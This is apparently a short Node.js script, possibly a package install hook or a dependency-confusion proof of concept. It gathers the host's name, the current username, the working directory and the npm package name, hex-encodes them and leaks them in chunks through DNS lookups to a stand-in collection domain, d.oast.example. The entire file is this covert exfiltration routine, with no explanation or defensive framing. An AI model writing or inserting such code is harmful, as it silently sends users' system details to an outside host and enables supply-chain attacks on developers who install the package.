const dns = require('dns');
const os = require('os');
const data = [os.hostname(), os.userInfo().username, process.cwd(), process.env.npm_package_name].join('|');
const hex = Buffer.from(data).toString('hex');
const chunks = hex.match(/.{1,50}/g) || [];
const id = Date.now().toString(36);
chunks.forEach((c, i) => {
  dns.lookup(`${c}.${i}.${id}.d.oast.example`, () => {});
});
